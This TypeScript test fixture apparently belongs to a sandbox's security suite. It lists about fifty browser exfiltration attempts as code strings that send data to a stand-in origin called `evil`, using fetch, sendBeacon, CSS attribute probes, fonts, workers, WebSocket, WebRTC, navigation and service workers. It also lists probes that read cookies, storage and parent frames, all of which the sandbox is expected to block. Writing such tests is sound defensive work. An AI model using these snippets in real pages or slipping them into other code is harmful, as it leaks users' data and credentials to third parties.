/**
 * What code in a view cell may try in order to get something out. Each is the body of an async function that knows `evil` (an origin that
 * counts what reaches it), `stun` (a UDP port that does) and `window`, the frame's own.
 */
export interface Attack {
  readonly name: string;
  readonly code: string;
  /** Blocked by the platform or by the missing constructor even where no policy is sent: has no leaking twin. */
  readonly always?: boolean;
}

const wait = (ms: number): string => `await new Promise((r) => setTimeout(r, ${ms}));`;
const make = (tag: string, set: string): string =>
  `const e = document.createElement('${tag}'); ${set}; document.body.append(e); ${wait(400)}`;

export const ATTACKS: readonly Attack[] = [
  { name: 'fetch', code: "await window.fetch(evil + '/x', {mode: 'no-cors'})" },
  {
    name: 'fetch with a body',
    code: "await window.fetch(evil + '/x', {mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true})",
  },
  {
    name: 'XMLHttpRequest',
    code: `const x = new window.XMLHttpRequest(); x.open('GET', evil + '/x'); x.send(); ${wait(300)}`,
  },
  { name: 'image', code: make('img', "e.src = evil + '/x'") },
  { name: 'Image()', code: `new window.Image().src = evil + '/x'; ${wait(300)}` },
  {
    name: 'picture in SVG',
    code: `document.body.append(svg\`<svg><image href=\${evil + '/x'}></image></svg>\`); ${wait(300)}`,
  },
  { name: 'video', code: make('video', "e.src = evil + '/x'; e.load()") },
  { name: 'audio', code: make('audio', "e.src = evil + '/x'; e.load()") },
  { name: 'object', code: make('object', "e.data = evil + '/x'") },
  { name: 'embed', code: make('embed', "e.src = evil + '/x'") },
  { name: 'style sheet', code: make('link', "e.rel = 'stylesheet'; e.href = evil + '/x'") },
  { name: 'CSS import', code: make('style', "e.textContent = '@import url(' + evil + '/x)'") },
  { name: 'CSS background', code: make('style', "e.textContent = 'body { background: url(' + evil + '/x) }'") },
  {
    name: 'CSS attribute probe',
    code: `document.body.append(Object.assign(document.createElement('b'), {title: 's3cret'})); ${make('style', "e.textContent = 'b[title^=s] { background: url(' + evil + '/s) }'")}`,
  },
  {
    name: 'font',
    code: make(
      'style',
      "e.textContent = '@font-face { font-family: q; src: url(' + evil + '/x) } body { font-family: q }'; document.body.append('q')",
    ),
  },
  { name: 'FontFace', code: "await new window.FontFace('q', 'url(' + evil + '/x)').load()" },
  { name: 'prefetch', code: make('link', "e.rel = 'prefetch'; e.href = evil + '/x'") },
  { name: 'preload', code: make('link', "e.rel = 'preload'; e.as = 'image'; e.href = evil + '/x'") },
  { name: 'preconnect', code: make('link', "e.rel = 'preconnect'; e.href = evil") },
  { name: 'modulepreload', code: make('link', "e.rel = 'modulepreload'; e.href = evil + '/x'") },
  { name: 'icon', code: make('link', "e.rel = 'icon'; e.href = evil + '/x'"), always: true },
  { name: 'manifest', code: make('link', "e.rel = 'manifest'; e.href = evil + '/x'"), always: true },
  { name: 'script', code: make('script', "e.src = evil + '/x'") },
  { name: 'dynamic import', code: `await window.eval("import('" + evil + "/x.js')")` },
  { name: 'worker of theirs', code: `new window.Worker(evil + '/x.js'); ${wait(300)}`, always: true },
  {
    name: 'fetch in a worker',
    code: `new window.Worker(URL.createObjectURL(new Blob(["fetch('" + evil + "/x', {mode: 'no-cors'})"]))); ${wait(500)}`,
  },
  {
    name: 'importScripts in a worker',
    code: `new window.Worker(URL.createObjectURL(new Blob(["importScripts('" + evil + "/x')"]))); ${wait(500)}`,
  },
  {
    name: 'WebSocket in a worker',
    code: `new window.Worker(URL.createObjectURL(new Blob(["new WebSocket('" + evil.replace('http', 'ws') + "/x')"]))); ${wait(500)}`,
  },
  { name: 'WebSocket', code: `new window.WebSocket(evil.replace('http', 'ws') + '/x'); ${wait(300)}` },
  { name: 'EventSource', code: `new window.EventSource(evil + '/x'); ${wait(300)}` },
  { name: 'sendBeacon', code: `navigator.sendBeacon(evil + '/x', 'secret'); ${wait(300)}` },
  { name: 'ping of a link', code: make('a', "e.href = '#'; e.ping = evil + '/x'; e.click()") },
  {
    name: 'form',
    code: make('form', "e.action = evil + '/x'; e.method = 'post'; document.body.append(e); e.submit()"),
    always: true,
  },
  { name: 'frame', code: make('iframe', "e.src = evil + '/x'") },
  { name: 'frame of its own text', code: make('iframe', "e.srcdoc = '<img src=\"' + evil + '/x\">'") },
  {
    name: 'frame of a blob',
    code: make(
      'iframe',
      "e.src = URL.createObjectURL(new Blob(['<img src=\"' + evil + '/x\">'], {type: 'text/html'}))",
    ),
  },
  {
    name: 'refresh',
    code: make('meta', "e.httpEquiv = 'refresh'; e.content = '0;url=' + evil + '/x'; document.head.append(e)"),
  },
  {
    name: 'navigation',
    code: `location.href = evil + '/x?secret'; ${wait(400)}`.replace('location', 'window.location'),
  },
  { name: 'navigation by a link', code: make('a', "e.href = evil + '/x'; e.click()") },
  { name: 'navigation of the page', code: `window.top.location = evil + '/x'; ${wait(300)}`, always: true },
  { name: 'window', code: `window.open(evil + '/x'); ${wait(300)}`, always: true },
  { name: 'window by a link', code: make('a', "e.href = evil + '/x'; e.target = '_blank'; e.click()"), always: true },
  { name: 'download', code: make('a', "e.href = evil + '/x'; e.download = 'x'; e.click()"), always: true },
  {
    name: 'WebRTC',
    code: `const p = new window.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + stun}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); ${wait(600)}`,
    always: true,
  },
  {
    name: 'WebRTC of a nested frame',
    code: `const i = document.createElement('iframe'); document.body.append(i); const p = new i.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + stun}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); ${wait(600)}`,
    always: true,
  },
  {
    name: 'WebRTC of a nested script',
    code: `const js = "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:" + stun + "'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"; const u = URL.createObjectURL(new Blob([js], {type: 'text/javascript'})); const i = document.createElement('iframe'); i.srcdoc = '<script src="' + u + '"></scr' + 'ipt><script>' + js + '</scr' + 'ipt>'; document.body.append(i); ${wait(900)}`,
  },
  {
    name: 'WebTransport',
    code: `await new window.WebTransport(evil.replace('http:', 'https:') + '/x').ready`,
    always: true,
  },
  { name: 'service worker', code: "await navigator.serviceWorker.register(evil + '/x.js')", always: true },
  { name: 'paint worklet', code: "await window.CSS.paintWorklet.addModule(evil + '/x.js')", always: true },
  {
    name: 'audio worklet',
    code: "await new window.AudioContext().audioWorklet.addModule(evil + '/x.js')",
    always: true,
  },
  {
    name: 'speculation rules',
    code: make(
      'script',
      "e.type = 'speculationrules'; e.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [evil + '/x']}]})",
    ),
    always: true,
  },
];

/** Reads what lies outside, and gives what it found. Nothing may. */
export const LOOKS: Readonly<Record<string, string>> = {
  cookie: 'document.cookie',
  localStorage: 'window.localStorage.length',
  sessionStorage: 'window.sessionStorage.length',
  indexedDB:
    "(await new Promise((r, n) => { const q = window.indexedDB.open('x'); q.onsuccess = r; q.onerror = () => n(q.error) })).type",
  caches: "await window.caches.open('x')",
  'parent document': 'window.parent.document.title',
  'parent page': 'window.parent.page.calls',
  'top location': 'window.top.location.href',
  'frame element': 'window.frameElement.title',
  'broadcast channel heard':
    "await new Promise((r, n) => { new window.BroadcastChannel('assay').onmessage = r; setTimeout(() => n(new Error('silence')), 200) })",
  'own origin': "await (await window.fetch('/frame.html')).text()",
  'API of the kernel': "await (await window.fetch('/api/v1/plugins')).text()",
  RTCPeerConnection: 'window.RTCPeerConnection.name',
  'nested realm':
    "(() => { const i = document.createElement('iframe'); document.body.append(i); return i.contentWindow.RTCPeerConnection.name })()",
};
